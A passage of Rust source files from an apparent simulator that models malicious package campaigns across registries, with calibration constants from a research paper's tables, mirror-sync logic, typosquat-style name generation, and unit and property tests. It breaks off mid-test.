    /// Panics if `i` is out of range.
    pub fn window_start(&self, i: usize) -> SimTime {
        assert!(i < self.bounds.len(), "window out of range");
        if i == 0 {
            SimTime::from_minutes(0)
        } else {
            self.bounds[i - 1]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::WorldConfig;

    #[test]
    fn equal_span_bounds_are_even_and_cover_the_range() {
        let plan = WindowPlan::equal_span(
            SimTime::from_minutes(0),
            SimTime::from_minutes(100),
            4,
        );
        assert_eq!(plan.window_count(), 4);
        assert_eq!(
            (0..4).map(|i| plan.bound(i).as_minutes()).collect::<Vec<_>>(),
            vec![25, 50, 75, 100]
        );
        assert_eq!(plan.window_of(SimTime::from_minutes(1)), 0);
        assert_eq!(plan.window_of(SimTime::from_minutes(25)), 0);
        assert_eq!(plan.window_of(SimTime::from_minutes(26)), 1);
        assert_eq!(plan.window_of(SimTime::from_minutes(100)), 3);
        // Late timestamps clamp into the final window.
        assert_eq!(plan.window_of(SimTime::from_minutes(1000)), 3);
        assert_eq!(plan.window_start(0).as_minutes(), 0);
        assert_eq!(plan.window_start(3).as_minutes(), 75);
    }

    #[test]
    fn quantile_bounds_balance_package_counts() {
        let world = World::generate(WorldConfig::small(42));
        let windows = 5;
        let plan = WindowPlan::disclosure_quantiles(&world, windows);
        assert!(plan.window_count() <= windows);
        // Recompute first disclosures and histogram them over the plan.
        let mut first_seen: HashMap<usize, SimTime> = HashMap::new();
        for m in &world.mentions {
            first_seen
                .entry(m.package.index())
                .and_modify(|t| *t = (*t).min(m.disclosed))
                .or_insert(m.disclosed);
        }
        let mut counts = vec![0usize; plan.window_count()];
        for t in first_seen.values() {
            counts[plan.window_of(*t)] += 1;
        }
        let total: usize = counts.iter().sum();
        assert_eq!(total, first_seen.len());
        // Quantile boundaries may shift whole duplicate-time groups into
        // the earlier window, but no window may be empty and the largest
        // imbalance stays bounded.
        let ideal = total / plan.window_count();
        for (i, &c) in counts.iter().enumerate() {
            assert!(c > 0, "window {i} is empty: {counts:?}");
            assert!(c <= ideal * 3, "window {i} is overloaded: {counts:?}");
        }
        // Everything published by the cutoff lands inside the plan.
        assert!(plan.bound(plan.window_count() - 1) >= world.config.collect_time);
    }

    #[test]
    #[should_panic(expected = "at least one window")]
    fn zero_windows_rejected() {
        WindowPlan::equal_span(SimTime::from_minutes(0), SimTime::from_minutes(1), 0);
    }
}
