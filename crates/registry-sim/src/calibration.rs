//! Calibration constants derived from the paper's published aggregates.
//!
//! The authors' corpus is scraped from proprietary sources we cannot
//! access, so the simulator is calibrated to the *published* numbers and
//! the analyses must recover them — which is exactly the measurement the
//! paper performs. Everything here is data, taken from:
//!
//! * Table I / Table VI — per-source mention totals and missing rates;
//! * Table IV — pairwise source overlaps (the duplicated structure);
//! * Table III — the security-report corpus by website category;
//! * Table VII — group counts and mean sizes per ecosystem;
//! * Fig. 2 — release-timeline year weights;
//! * Fig. 12 — changing-operation frequencies.

use oss_types::{Ecosystem, SourceId};

/// Per-source mention totals (Table IV header row / Table VI totals).
pub const SOURCE_TOTALS: [(SourceId, usize); 10] = [
    (SourceId::BackstabberKnife, 4953),
    (SourceId::Maloss, 1346),
    (SourceId::MalPyPI, 2915),
    (SourceId::GitHubAdvisory, 179),
    (SourceId::SnykIo, 1545),
    (SourceId::Tianwen, 3201),
    (SourceId::DataDog, 1397),
    (SourceId::Phylum, 7311),
    (SourceId::Socket, 664),
    (SourceId::IndividualBlogs, 62),
];

/// Pairwise overlaps from Table IV (upper triangle, zero pairs omitted).
pub const PAIR_OVERLAPS: [(SourceId, SourceId, usize); 17] = [
    (SourceId::BackstabberKnife, SourceId::Maloss, 50),
    (SourceId::BackstabberKnife, SourceId::MalPyPI, 1348),
    (SourceId::BackstabberKnife, SourceId::GitHubAdvisory, 102),
    (SourceId::BackstabberKnife, SourceId::SnykIo, 502),
    (SourceId::BackstabberKnife, SourceId::Tianwen, 14),
    (SourceId::BackstabberKnife, SourceId::DataDog, 79),
    (SourceId::BackstabberKnife, SourceId::Phylum, 385),
    (SourceId::BackstabberKnife, SourceId::IndividualBlogs, 20),
    (SourceId::Maloss, SourceId::MalPyPI, 310),
    (SourceId::Maloss, SourceId::SnykIo, 128),
    (SourceId::Maloss, SourceId::Tianwen, 68),
    (SourceId::Maloss, SourceId::Phylum, 23),
    (SourceId::Maloss, SourceId::IndividualBlogs, 2),
    (SourceId::MalPyPI, SourceId::Tianwen, 6),
    (SourceId::MalPyPI, SourceId::DataDog, 17),
    (SourceId::MalPyPI, SourceId::Phylum, 243),
    (SourceId::GitHubAdvisory, SourceId::IndividualBlogs, 2),
];

/// Remaining Table IV pairs (industry↔industry, mostly nonzero).
pub const PAIR_OVERLAPS_INDUSTRY: [(SourceId, SourceId, usize); 4] = [
    (SourceId::SnykIo, SourceId::Tianwen, 244),
    (SourceId::SnykIo, SourceId::Phylum, 16),
    (SourceId::Tianwen, SourceId::Phylum, 539),
    (SourceId::Tianwen, SourceId::Socket, 4),
];

/// Tianwen↔DataDog, Phylum↔DataDog from Table IV.
pub const PAIR_OVERLAPS_REST: [(SourceId, SourceId, usize); 1] =
    [(SourceId::DataDog, SourceId::Phylum, 12)];

/// Higher-order overlap blocks: packages reported by ≥3 sources. Table IV
/// only publishes pairwise counts; these triples are carved out of the
/// largest pairwise overlaps so that Fig. 4's multi-source tail exists
/// while the pairwise matrix stays (approximately) intact. A triple of
/// size `t` contributes `t` to each of its three pairwise cells, so the
/// corresponding [`PAIR_OVERLAPS`] entries are reduced by `t` at build
/// time.
pub const TRIPLE_OVERLAPS: [(SourceId, SourceId, SourceId, usize); 3] = [
    (
        SourceId::BackstabberKnife,
        SourceId::MalPyPI,
        SourceId::Phylum,
        150,
    ),
    (
        SourceId::BackstabberKnife,
        SourceId::Maloss,
        SourceId::MalPyPI,
        30,
    ),
    (SourceId::SnykIo, SourceId::Tianwen, SourceId::Phylum, 10),
];

/// Target single-source missing rates (Table VI), in percent.
pub fn single_missing_rate_pct(source: SourceId) -> f64 {
    match source {
        SourceId::BackstabberKnife => 79.31,
        SourceId::Maloss => 0.22,
        SourceId::MalPyPI => 0.0,
        SourceId::GitHubAdvisory => 92.74,
        SourceId::SnykIo => 75.2,
        SourceId::Tianwen => 55.4,
        SourceId::DataDog => 0.0,
        SourceId::Phylum => 91.2,
        SourceId::Socket => 100.0,
        SourceId::IndividualBlogs => 95.16,
    }
}

/// Ecosystem share of distinct malicious packages. PyPI and NPM dominate
/// the corpus (paper §II-C); the seven minor ecosystems share ~3%.
pub const ECOSYSTEM_SHARES: [(Ecosystem, f64); 10] = [
    (Ecosystem::PyPI, 0.55),
    (Ecosystem::Npm, 0.37),
    (Ecosystem::RubyGems, 0.05),
    (Ecosystem::Maven, 0.008),
    (Ecosystem::Cocoapods, 0.004),
    (Ecosystem::SourceForge, 0.004),
    (Ecosystem::Docker, 0.005),
    (Ecosystem::Composer, 0.004),
    (Ecosystem::NuGet, 0.003),
    (Ecosystem::Rust, 0.002),
];

/// Release-timeline weights per year (Fig. 2 shape: slow start, steep
/// growth through 2022–2023, partial 2024).
pub const YEAR_WEIGHTS: [(i32, f64); 7] = [
    (2018, 0.02),
    (2019, 0.04),
    (2020, 0.08),
    (2021, 0.12),
    (2022, 0.25),
    (2023, 0.40),
    (2024, 0.09),
];

/// Similar-campaign (SG) targets per ecosystem: `(groups, mean size)`
/// from Table VII.
pub fn sg_targets(eco: Ecosystem) -> Option<(usize, f64)> {
    match eco {
        Ecosystem::Npm => Some((76, 17.78)),
        Ecosystem::PyPI => Some((36, 137.17)),
        Ecosystem::RubyGems => Some((4, 7.75)),
        _ => None,
    }
}

/// Dependency-campaign (DeG) targets per ecosystem from Table VII.
pub fn deg_targets(eco: Ecosystem) -> Option<(usize, f64)> {
    match eco {
        Ecosystem::Npm => Some((11, 2.36)),
        Ecosystem::PyPI => Some((1, 2.0)),
        _ => None,
    }
}

/// Reported-campaign (CG) targets per ecosystem from Table VII.
pub fn cg_targets(eco: Ecosystem) -> Option<(usize, f64)> {
    match eco {
        Ecosystem::Npm => Some((50, 46.1)),
        Ecosystem::PyPI => Some((26, 22.69)),
        Ecosystem::RubyGems => Some((6, 7.67)),
        _ => None,
    }
}

/// Security-report website corpus by category (Table III):
/// `(category name, websites, reports)`.
pub const REPORT_SOURCES: [(&str, usize, usize); 6] = [
    ("Technical Community", 16, 516),
    ("Commercial org.", 15, 545),
    ("News", 4, 143),
    ("Individual", 3, 95),
    ("Official", 1, 24),
    ("Other", 29, 43),
];

/// Fig. 12 — the operation distribution the paper *measured*, in percent.
/// The evolution analysis must land near these.
pub const PAPER_OP_PCT: [(&str, f64); 5] = [
    ("CN", 98.92),
    ("CV", 1.08),
    ("CD", 35.0), // not printed numerically in the paper; mid-range bar
    ("CDep", 2.0),
    ("CC", 39.76),
];

/// Changing-operation *generation* frequencies per re-release attempt.
/// These are slightly below the Fig.-12 targets on purpose: the analysis
/// diffs consecutive *available* packages, so a mirror-lost member makes
/// one detected diff carry two generated operations. The values here are
/// calibrated so the *detected* distribution matches [`PAPER_OP_PCT`].
pub const OP_FREQUENCIES: OpFrequencies = OpFrequencies {
    change_name: 0.98,
    change_version: 0.02,
    change_description: 0.20,
    change_dependency: 0.01,
    change_code: 0.25,
};

/// Probabilities of the five changing operations per re-release attempt.
#[derive(Debug, Clone, Copy)]
pub struct OpFrequencies {
    /// CN probability; its complement is CV-only (re-version the same
    /// name, possible only while the old release is undetected).
    pub change_name: f64,
    /// CV probability.
    pub change_version: f64,
    /// CD probability.
    pub change_description: f64,
    /// CDep probability.
    pub change_dependency: f64,
    /// CC probability.
    pub change_code: f64,
}

/// Mean changed source lines for a CC operation (paper: "around 3.7").
pub const CC_MEAN_CHANGED_LINES: f64 = 3.7;

/// Builds the scaled *mention block* list: every entry is a set of
/// sources that jointly report one distinct package, with multiplicity.
/// At `scale = 1.0` the blocks reproduce Table IV exactly (up to the
/// documented triple carve-outs) and sum to the Table I totals.
pub fn mention_blocks(scale: f64) -> Vec<Vec<SourceId>> {
    assert!(scale > 0.0, "scale must be positive");
    let scaled = |n: usize| -> usize { ((n as f64 * scale).round() as usize).max(1) };

    let mut blocks: Vec<Vec<SourceId>> = Vec::new();
    // Triples first, so we can subtract them from the pairwise cells.
    let mut pair_reduction: std::collections::HashMap<(SourceId, SourceId), usize> =
        std::collections::HashMap::new();
    for &(a, b, c, t) in &TRIPLE_OVERLAPS {
        let t_scaled = scaled(t);
        for _ in 0..t_scaled {
            blocks.push(vec![a, b, c]);
        }
        for pair in [(a, b), (a, c), (b, c)] {
            *pair_reduction.entry(pair).or_default() += t;
        }
    }

    let mut per_source_multi: std::collections::HashMap<SourceId, usize> =
        std::collections::HashMap::new();
    for &(a, b, c, t) in &TRIPLE_OVERLAPS {
        for s in [a, b, c] {
            *per_source_multi.entry(s).or_default() += t;
        }
    }

    let all_pairs = PAIR_OVERLAPS
        .iter()
        .chain(PAIR_OVERLAPS_INDUSTRY.iter())
        .chain(PAIR_OVERLAPS_REST.iter());
    for &(a, b, n) in all_pairs {
        let reduced = n.saturating_sub(pair_reduction.get(&(a, b)).copied().unwrap_or(0));
        if reduced == 0 {
            continue;
        }
        let count = scaled(reduced);
        for _ in 0..count {
            blocks.push(vec![a, b]);
        }
        *per_source_multi.entry(a).or_default() += reduced;
        *per_source_multi.entry(b).or_default() += reduced;
    }

    for &(source, total) in &SOURCE_TOTALS {
        let used = per_source_multi.get(&source).copied().unwrap_or(0);
        let singles = total.saturating_sub(used);
        let count = scaled(singles);
        for _ in 0..count {
            blocks.push(vec![source]);
        }
    }
    blocks
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    #[test]
    fn full_scale_blocks_reproduce_source_totals() {
        let blocks = mention_blocks(1.0);
        let mut totals: HashMap<SourceId, usize> = HashMap::new();
        for block in &blocks {
            for &s in block {
                *totals.entry(s).or_default() += 1;
            }
        }
        for &(source, expected) in &SOURCE_TOTALS {
            let got = totals.get(&source).copied().unwrap_or(0);
            let diff = got.abs_diff(expected);
            assert!(
                diff <= 2,
                "{source}: got {got}, expected {expected} (Table I/IV)"
            );
        }
    }

    #[test]
    fn full_scale_blocks_reproduce_pairwise_overlaps() {
        let blocks = mention_blocks(1.0);
        let mut pairs: HashMap<(SourceId, SourceId), usize> = HashMap::new();
        for block in &blocks {
            for i in 0..block.len() {
                for j in (i + 1)..block.len() {
                    let key = if block[i] <= block[j] {
                        (block[i], block[j])
                    } else {
                        (block[j], block[i])
                    };
                    *pairs.entry(key).or_default() += 1;
                }
            }
        }
        for &(a, b, expected) in PAIR_OVERLAPS
            .iter()
            .chain(PAIR_OVERLAPS_INDUSTRY.iter())
            .chain(PAIR_OVERLAPS_REST.iter())
        {
            let key = if a <= b { (a, b) } else { (b, a) };
            let got = pairs.get(&key).copied().unwrap_or(0);
            assert!(
                got.abs_diff(expected) <= 2,
                "overlap {a}↔{b}: got {got}, expected {expected} (Table IV)"
            );
        }
    }

    #[test]
    fn multi_source_blocks_exist_for_fig4_tail() {
        let blocks = mention_blocks(1.0);
        let singles = blocks.iter().filter(|b| b.len() == 1).count();
        let triples = blocks.iter().filter(|b| b.len() >= 3).count();
        assert!(triples > 0, "Fig. 4 needs a ≥3-source tail");
        let frac_single = singles as f64 / blocks.len() as f64;
        assert!(
            frac_single > 0.70,
            "most packages are single-source (Fig. 4: ~80%), got {frac_single:.2}"
        );
    }

    #[test]
    fn downscaled_blocks_keep_every_source() {
        let blocks = mention_blocks(0.05);
        for &(source, _) in &SOURCE_TOTALS {
            assert!(
                blocks.iter().any(|b| b.contains(&source)),
                "{source} lost at small scale"
            );
        }
        assert!(blocks.len() < mention_blocks(1.0).len() / 4);
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn zero_scale_panics() {
        mention_blocks(0.0);
    }

    #[test]
    fn ecosystem_shares_sum_to_one() {
        let total: f64 = ECOSYSTEM_SHARES.iter().map(|(_, s)| s).sum();
        assert!((total - 1.0).abs() < 1e-9, "shares sum to {total}");
    }

    #[test]
    fn year_weights_sum_to_one() {
        let total: f64 = YEAR_WEIGHTS.iter().map(|(_, w)| w).sum();
        assert!((total - 1.0).abs() < 1e-9);
    }

    #[test]
    fn op_frequencies_are_consistent() {
        assert!(
            (OP_FREQUENCIES.change_name + OP_FREQUENCIES.change_version - 1.0).abs() < 1e-9,
            "CN and CV are complements: every re-release changes one or the other"
        );
        // Generation stays below the detected Fig. 12 targets (see the
        // constant's doc comment for why). Read through a binding so the
        // relationship is checked against the live constant.
        let freq = OP_FREQUENCIES;
        let cc_target = PAPER_OP_PCT[4].1;
        let cd_target = PAPER_OP_PCT[2].1;
        assert!(freq.change_code * 100.0 <= cc_target);
        assert!(freq.change_description * 100.0 <= cd_target);
        let cn_target = PAPER_OP_PCT[0].1;
        assert!((98.0..=100.0).contains(&cn_target));
    }
}
