//! Simulated package records — the ground truth of the world.

use minilang::printer::print_module;
use minilang::Module;
use oss_types::{ActorId, OpSet, PackageId, Sha256, SimTime};

/// Index of a package within [`crate::world::World::packages`].
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash,
)]
pub struct PkgIdx(pub u32);

impl PkgIdx {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Index of a campaign within [`crate::world::World::campaigns`].
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash,
)]
pub struct CampaignIdx(pub u32);

impl CampaignIdx {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Why a package cannot be recovered from any mirror (paper Fig. 5).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum UnavailCause {
    /// Released so long ago that every mirror has since reconciled the
    /// deletion (cause 1: "release time is too early").
    ReleasedTooEarly,
    /// Removed before any mirror sync captured it (cause 2: "persistent
    /// period is too short").
    PersistenceTooShort,
    /// The ecosystem has no mirror registries at all (the seven minor
    /// ecosystems).
    NoMirrors,
}

/// One malicious package release in the simulated world.
///
/// Fields marked *ground truth* are known to the simulator but **never**
/// read by the collection pipeline or MALGRAPH construction — only by
/// validation code that scores the pipeline's output.
#[derive(Debug, Clone)]
pub struct SimPackage {
    /// Registry identity (ecosystem / name @ version).
    pub id: PackageId,
    /// Metadata description string.
    pub description: String,
    /// Declared dependencies (names within the same ecosystem).
    pub dependencies: Vec<oss_types::PackageName>,
    /// Canonical source text of the package's code.
    pub source_text: String,
    /// SHA-256 of `source_text` — the artifact signature.
    pub signature: Sha256,
    /// Release instant.
    pub released: SimTime,
    /// Instant the registry admin removed it, if it was detected.
    pub removed: Option<SimTime>,
    /// Download count accumulated before removal.
    pub downloads: u64,
    /// Ground truth: campaign this release belongs to (`None` = loner).
    pub campaign: Option<CampaignIdx>,
    /// Ground truth: 0-based release-attempt order within the campaign.
    pub attempt: usize,
    /// Ground truth: the adversary.
    pub actor: ActorId,
    /// Ground truth: behaviour family; `None` for the benign front
    /// package of a dependency attack or a trojan's clean first releases.
    pub behavior: Option<minilang::gen::Behavior>,
    /// Ground truth: changing operations applied relative to the previous
    /// attempt (empty for the first attempt).
    pub ops_from_prev: OpSet,
    /// Whether some mirror still holds the artifact at collection time.
    pub mirror_available: bool,
    /// Why it is not mirror-recoverable, when it is not.
    pub unavail_cause: Option<UnavailCause>,
}

impl SimPackage {
    /// Persistence: time between release and removal, `None` while the
    /// package was never removed.
    pub fn persistence(&self) -> Option<oss_types::SimDuration> {
        self.removed.map(|r| r - self.released)
    }

    /// Whether the package carries malicious code.
    pub fn is_malicious(&self) -> bool {
        self.behavior.is_some()
    }
}

/// Computes the canonical source text and signature for a module.
///
/// The signature hashes the canonical text, mirroring the paper's
/// "extract its code from the package to calculate its signature" with
/// `hashlib`.
pub fn code_identity(module: &Module) -> (String, Sha256) {
    let text = print_module(module);
    let sig = Sha256::digest_str(&text);
    (text, sig)
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::parse;
    use oss_types::SimDuration;

    fn sample(released: SimTime, removed: Option<SimTime>) -> SimPackage {
        let module = parse("x = 1\n").unwrap();
        let (source_text, signature) = code_identity(&module);
        SimPackage {
            id: "pypi/sample@1.0.0".parse().unwrap(),
            description: "a sample".into(),
            dependencies: vec![],
            source_text,
            signature,
            released,
            removed,
            downloads: 0,
            campaign: None,
            attempt: 0,
            actor: ActorId::new(0),
            behavior: None,
            ops_from_prev: OpSet::empty(),
            mirror_available: false,
            unavail_cause: Some(UnavailCause::PersistenceTooShort),
        }
    }

    #[test]
    fn persistence_is_removal_minus_release() {
        let t0 = SimTime::from_ymd(2023, 5, 1);
        let t1 = t0 + SimDuration::hours(30);
        let pkg = sample(t0, Some(t1));
        assert_eq!(pkg.persistence().unwrap().as_hours(), 30);
        assert_eq!(sample(t0, None).persistence(), None);
    }

    #[test]
    fn identical_code_has_identical_signature() {
        let a = code_identity(&parse("x = 1\ny = 2\n").unwrap());
        let b = code_identity(&parse("x = 1\ny = 2\n").unwrap());
        let c = code_identity(&parse("x = 1\ny = 3\n").unwrap());
        assert_eq!(a.1, b.1);
        assert_ne!(a.1, c.1);
    }

    #[test]
    fn maliciousness_follows_behavior() {
        let mut pkg = sample(SimTime::EPOCH, None);
        assert!(!pkg.is_malicious());
        pkg.behavior = Some(minilang::gen::Behavior::Backdoor);
        assert!(pkg.is_malicious());
    }
}
