//! Package-name generation.
//!
//! Campaign packages need realistic registry names, and the dominant
//! changing operation is CN — releasing the same malware under a fresh
//! name (paper Fig. 12, 98.92%). Attackers draw names from three styles
//! observed in the report corpus: *typosquats* of popular packages,
//! *theme-and-suffix* sequences (`colorslib`, `httpslib`, `libhttps`…),
//! and *scoped-sounding* combinations (`mall-front-babel-directive`).

use oss_types::PackageName;
use rand::seq::SliceRandom;
use rand::Rng;

/// Popular legitimate package names that typosquats target.
pub const POPULAR_TARGETS: [&str; 20] = [
    "requests", "numpy", "pandas", "django", "flask", "lodash", "express", "react", "axios",
    "moment", "chalk", "commander", "webpack", "babel", "rails", "devise", "nokogiri", "rspec",
    "urllib3", "setuptools",
];

const THEMES: [&str; 24] = [
    "color", "http", "log", "json", "crypto", "cloud", "web", "net", "data", "file", "sys",
    "util", "core", "api", "auth", "cache", "db", "mail", "test", "time", "url", "xml", "yaml",
    "zip",
];

const AFFIXES: [&str; 16] = [
    "lib", "utils", "tools", "kit", "js", "py", "helper", "modules", "plus", "pro", "x", "io",
    "dev", "sdk", "min", "ng",
];

const SCOPE_WORDS: [&str; 16] = [
    "mall", "front", "babel", "directive", "remote", "layout", "hardware", "widget", "mobile",
    "admin", "portal", "vendor", "legacy", "bridge", "proxy", "runtime",
];

/// Generates package names for one campaign or as one-off loners.
#[derive(Debug, Clone)]
pub struct NameGenerator {
    /// Serial counter guaranteeing global uniqueness across the world.
    serial: u64,
}

impl NameGenerator {
    /// Creates a generator; `serial_start` offsets the uniqueness counter
    /// so several generators can coexist.
    pub fn new(serial_start: u64) -> Self {
        NameGenerator {
            serial: serial_start,
        }
    }

    /// A fresh unique name in one of the three attacker styles.
    pub fn fresh(&mut self, rng: &mut impl Rng) -> PackageName {
        let style = rng.gen_range(0..3);
        let base = match style {
            0 => self.typosquat(rng),
            1 => self.themed(rng),
            _ => self.scoped(rng),
        };
        self.uniquify(base)
    }

    /// A typosquat of a popular package: drop, double or swap one char.
    pub fn typosquat(&mut self, rng: &mut impl Rng) -> String {
        let target = POPULAR_TARGETS.choose(rng).expect("non-empty");
        let chars: Vec<char> = target.chars().collect();
        let pos = rng.gen_range(0..chars.len());
        match rng.gen_range(0..3) {
            0 if chars.len() > 2 => {
                // Drop a character.
                let mut s: String = chars[..pos].iter().collect();
                s.extend(&chars[pos + 1..]);
                s
            }
            1 => {
                // Double a character.
                let mut s: String = chars[..=pos].iter().collect();
                s.push(chars[pos]);
                s.extend(&chars[pos + 1..]);
                s
            }
            _ => {
                // Append a plausible suffix.
                format!("{target}-{}", AFFIXES.choose(rng).expect("non-empty"))
            }
        }
    }

    fn themed(&mut self, rng: &mut impl Rng) -> String {
        let theme = THEMES.choose(rng).expect("non-empty");
        let affix = AFFIXES.choose(rng).expect("non-empty");
        if rng.gen_bool(0.5) {
            format!("{theme}{affix}")
        } else {
            format!("{affix}{theme}")
        }
    }

    fn scoped(&mut self, rng: &mut impl Rng) -> String {
        let n = rng.gen_range(2..=3);
        let mut parts = Vec::with_capacity(n);
        for _ in 0..n {
            parts.push(*SCOPE_WORDS.choose(rng).expect("non-empty"));
        }
        parts.join("-")
    }

    /// A *sibling* name for the next release attempt of a campaign: keeps
    /// the campaign theme recognizable while differing from `prev`
    /// (`colorslib` → `colorslib2`, `colors-lib`, `libcolors`…).
    pub fn sibling(&mut self, prev: &PackageName, rng: &mut impl Rng) -> PackageName {
        // Keep at most the first two segments as the campaign stem so the
        // theme stays recognizable without names growing unboundedly.
        let trimmed = prev.as_str().trim_end_matches(|c: char| c.is_ascii_digit());
        let mut segments = trimmed.split('-');
        let base = match (segments.next(), segments.next()) {
            (Some(a), Some(b)) if !b.is_empty() => format!("{a}-{b}"),
            (Some(a), _) => a.to_string(),
            _ => trimmed.to_string(),
        };
        let base = base.as_str();
        let candidate = match rng.gen_range(0..3) {
            0 => format!("{base}{}", rng.gen_range(2..99)),
            1 => format!("{base}-{}", AFFIXES.choose(rng).expect("non-empty")),
            _ => {
                let affix = AFFIXES.choose(rng).expect("non-empty");
                format!("{affix}-{base}")
            }
        };
        self.uniquify(candidate)
    }

    fn uniquify(&mut self, base: String) -> PackageName {
        self.serial += 1;
        // The serial suffix guarantees global uniqueness without altering
        // the name's campaign-recognizable stem.
        let name = format!("{base}-{}", radix36(self.serial));
        PackageName::new(&name).unwrap_or_else(|_| {
            PackageName::new(&format!("pkg-{}", radix36(self.serial)))
                .expect("fallback name is always valid")
        })
    }
}

fn radix36(mut n: u64) -> String {
    const DIGITS: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
    if n == 0 {
        return "0".into();
    }
    let mut out = Vec::new();
    while n > 0 {
        out.push(DIGITS[(n % 36) as usize]);
        n /= 36;
    }
    out.reverse();
    String::from_utf8(out).expect("ascii digits")
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use std::collections::HashSet;

    #[test]
    fn fresh_names_are_valid_and_unique() {
        let mut gen = NameGenerator::new(0);
        let mut rng = StdRng::seed_from_u64(1);
        let mut seen = HashSet::new();
        for _ in 0..500 {
            let name = gen.fresh(&mut rng);
            assert!(seen.insert(name.clone()), "duplicate name {name}");
        }
    }

    #[test]
    fn siblings_share_a_stem() {
        let mut gen = NameGenerator::new(100);
        let mut rng = StdRng::seed_from_u64(2);
        let first = gen.fresh(&mut rng);
        let next = gen.sibling(&first, &mut rng);
        assert_ne!(first, next);
        // Small edit distance relative to fresh names is the point of CN.
        let stem: String = first.as_str().chars().take(4).collect();
        assert!(
            next.as_str().contains(&stem) || first.as_str().contains(
                &next.as_str().chars().take(4).collect::<String>()
            ),
            "sibling {next} lost the stem of {first}"
        );
    }

    #[test]
    fn generators_with_disjoint_serials_dont_collide() {
        let mut a = NameGenerator::new(0);
        let mut b = NameGenerator::new(1_000_000);
        let mut rng = StdRng::seed_from_u64(3);
        let na: HashSet<_> = (0..200).map(|_| a.fresh(&mut rng)).collect();
        let nb: HashSet<_> = (0..200).map(|_| b.fresh(&mut rng)).collect();
        assert!(na.is_disjoint(&nb));
    }

    #[test]
    fn typosquats_are_near_popular_targets() {
        let mut gen = NameGenerator::new(0);
        let mut rng = StdRng::seed_from_u64(4);
        for _ in 0..50 {
            let squat = gen.typosquat(&mut rng);
            // Drop/double squats are within a few edits; suffix squats
            // (`chalk-modules`) keep the full target as a prefix.
            let near = POPULAR_TARGETS.iter().any(|t| {
                squat.starts_with(t) || oss_types::name::levenshtein(&squat, t) <= t.len().max(3)
            });
            assert!(near, "{squat} is not near any popular target");
        }
    }

    #[test]
    fn radix36_round_trip_samples() {
        assert_eq!(radix36(0), "0");
        assert_eq!(radix36(35), "z");
        assert_eq!(radix36(36), "10");
    }
}
