//! Property-based tests for the simulator's mirror mechanics and name
//! generation — the machinery behind Fig. 5 and the CN operation.

use oss_types::{Ecosystem, SimDuration, SimTime};
use proptest::prelude::*;
use registry_sim::mirror::Mirror;
use registry_sim::names::NameGenerator;
use registry_sim::MirrorFleet;

fn arb_mirror() -> impl Strategy<Value = Mirror> {
    (1u64..200, 0u64..200, 1u64..1000).prop_map(|(interval_h, phase_h, retention_d)| Mirror {
        ecosystem: Ecosystem::PyPI,
        name: "prop".into(),
        sync_interval: SimDuration::hours(interval_h),
        phase: SimDuration::hours(phase_h),
        retention: SimDuration::days(retention_d),
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn next_sync_is_never_before_query_and_is_aligned(
        m in arb_mirror(),
        t in 0u64..4_000_000u64,
    ) {
        let t = SimTime::from_minutes(t);
        let sync = m.next_sync_at(t);
        prop_assert!(sync >= t);
        let interval = m.sync_interval.as_minutes();
        let phase = m.phase.as_minutes() % interval;
        prop_assert_eq!((sync.as_minutes() - phase) % interval, 0);
        // Minimality: one interval earlier would be before `t`.
        prop_assert!(sync.as_minutes() < t.as_minutes() + interval);
    }

    #[test]
    fn capture_requires_a_sync_inside_the_window(
        m in arb_mirror(),
        release in 0u64..2_000_000u64,
        persistence in 1u64..400_000u64,
    ) {
        let release = SimTime::from_minutes(release);
        let removed = release + SimDuration::minutes(persistence);
        match m.capture_time(release, Some(removed)) {
            Some(capture) => {
                prop_assert!(capture >= release);
                prop_assert!(capture < removed);
            }
            None => {
                // No sync event fell inside [release, removed).
                let sync = m.next_sync_at(release);
                prop_assert!(sync >= removed);
            }
        }
    }

    #[test]
    fn persistence_longer_than_interval_guarantees_capture(
        m in arb_mirror(),
        release in 0u64..2_000_000u64,
    ) {
        let release = SimTime::from_minutes(release);
        let removed = release + m.sync_interval + SimDuration::minutes(1);
        prop_assert!(m.capture_time(release, Some(removed)).is_some());
    }

    #[test]
    fn holding_is_monotone_in_retention(
        release in 0u64..2_000_000u64,
        persistence in 60u64..200_000u64,
        query_offset in 0u64..2_000_000u64,
        interval_h in 1u64..200,
        short_d in 1u64..400,
        extra_d in 1u64..400,
    ) {
        let release = SimTime::from_minutes(release);
        let removed = release + SimDuration::minutes(persistence);
        let query = removed + SimDuration::minutes(query_offset);
        let mk = |retention_d: u64| Mirror {
            ecosystem: Ecosystem::Npm,
            name: "prop".into(),
            sync_interval: SimDuration::hours(interval_h),
            phase: SimDuration::ZERO,
            retention: SimDuration::days(retention_d),
        };
        let short = mk(short_d);
        let long = mk(short_d + extra_d);
        // A longer retention can only keep *more* packages available.
        if short.holds(release, Some(removed), query) {
            prop_assert!(long.holds(release, Some(removed), query));
        }
    }

    #[test]
    fn fleet_holds_iff_some_member_holds(
        release in 0u64..2_000_000u64,
        persistence in 1u64..400_000u64,
        query_offset in 0u64..2_000_000u64,
    ) {
        let fleet = MirrorFleet::paper_fleet(365);
        let release = SimTime::from_minutes(release);
        let removed = release + SimDuration::minutes(persistence);
        let query = removed + SimDuration::minutes(query_offset);
        for eco in Ecosystem::MAJOR {
            let any = fleet.any_holds(eco, release, Some(removed), query);
            let member = fleet
                .for_ecosystem(eco)
                .any(|m| m.holds(release, Some(removed), query));
            prop_assert_eq!(any, member);
        }
    }

    #[test]
    fn generated_names_are_always_valid_and_unique(seed in 0u64..500, n in 1usize..60) {
        use rand::SeedableRng;
        let mut gen = NameGenerator::new(seed * 1000);
        let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
        let mut seen = std::collections::HashSet::new();
        let mut prev = gen.fresh(&mut rng);
        seen.insert(prev.clone());
        for i in 0..n {
